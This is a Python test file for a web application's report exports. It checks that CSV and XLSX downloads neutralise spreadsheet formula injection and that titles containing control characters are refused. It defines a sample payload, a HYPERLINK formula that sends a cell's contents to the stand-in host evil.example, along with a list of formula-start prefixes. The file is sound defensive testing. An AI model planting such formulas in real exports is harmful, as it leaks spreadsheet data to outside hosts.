"""Exports that cannot run: a value that looks like a formula arrives as text."""

import io

from openpyxl import load_workbook

from tests.conftest import csrf_token
from tests.web.conftest import api_token, login
from tests.web.test_reports import csv_rows
from web.views.reports.export import Table, csv_bytes, xlsx_bytes

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'


def test_a_formula_in_start_data_arrives_as_text_in_both_exports(app, client):
    # A Prakom's free-text start data (the fault's "sistem") and title, downloaded by the
    # Kasubbag from the process list.
    started = client.post("/api/v1/instances", headers=api_token(client, "prakom"), json={
        "process_key": "penanganan_gangguan_server", "title": EVIL,
        "data": {"sistem": EVIL, "prioritas": "mayor"}})
    assert started.status_code == 201, started.json
    login(client, "kasubbag")
    url = "/proses/?cakupan=unit"
    workbook = load_workbook(io.BytesIO(client.get(f"{url}&format=xlsx").data))
    [cell] = [c for row in workbook.worksheets[0].iter_rows(min_row=2) for c in row
              if c.value == EVIL]
    assert cell.data_type == "s" and cell.quotePrefix
    [row] = csv_rows(client.get(f"{url}&format=csv").data)
    assert row[1] == "'" + EVIL
    assert "Sistem terdampak: " + EVIL in row[-1]


def test_every_formula_start_is_neutralised_and_numbers_stay_numbers():
    table = Table("Uji", ["Teks", "Angka"])
    starts = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"]
    for text in starts:
        table.add([text, -2.5])
    table.add(["biasa", 3])
    rows = csv_rows(csv_bytes(table))
    assert rows == [["'" + text, "-2,5"] for text in starts] + [["biasa", "3"]]
    assert csv_rows(csv_bytes(table, ","), ",")[0] == ["'=1+1", "-2.5"]
    sheet = load_workbook(io.BytesIO(xlsx_bytes([table])))["Uji"]
    cells = list(sheet.iter_rows(min_row=2, values_only=False))
    assert [(row[0].value, row[0].data_type) for row in cells[:-1]] == [
        (text, "s") for text in starts]
    assert [row[1].value for row in cells] == [-2.5] * 6 + [3]


def test_text_with_control_characters_or_lone_surrogates_is_refused_in_words(app, client):
    """A vertical tab (Word's line break) stored in a title broke every XLSX export of the
    list; a lone surrogate broke the process page and both exports. Neither is stored."""
    headers = api_token(client, "prakom")
    for title in ("Server\x0bmati", "Server\x07mati", "a\ud800b"):
        refused = client.post("/api/v1/instances", headers=headers, json={
            "process_key": "penanganan_gangguan_server", "title": title})
        assert refused.status_code == 400, repr(title)
        assert "karakter kendali" in refused.json["error"]["message"]
    login(client, "prakom")
    page = client.get("/proses/baru?process_key=penanganan_gangguan_server").get_data(True)
    form = client.post("/proses/baru", data={
        "csrf_token": csrf_token(page), "process_key": "penanganan_gangguan_server",
        "title": "Server\x0bmati"})
    assert form.status_code == 422 and "karakter kendali" in form.get_data(True)
    assert client.get("/api/v1/instances?scope=mine", headers=headers).json["total"] == 0


def test_a_control_character_stored_before_is_left_out_of_the_workbook():
    table = Table("Uji", ["Teks"])
    table.add(["Server\x0bmati"])
    workbook = load_workbook(io.BytesIO(xlsx_bytes([table])))
    assert workbook.worksheets[0]["A2"].value == "Servermati"


def test_a_text_of_several_lines_or_longer_than_its_column_wraps_in_its_cell():
    """Excel showed a multi-line Data proses, or a Catatan of 300 characters, on one line
    running past its 60-wide column; a short one stays as it is."""
    table = Table("Uji", ["Data", "Catatan", "Pendek"])
    table.add(["Baris satu\nBaris dua", "kata " * 60, "ya"])
    sheet = load_workbook(io.BytesIO(xlsx_bytes([table]))).worksheets[0]
    data, note, short = sheet[2]
    assert data.alignment.wrap_text and note.alignment.wrap_text
    assert not short.alignment.wrap_text
    assert sheet.column_dimensions["B"].width == 60
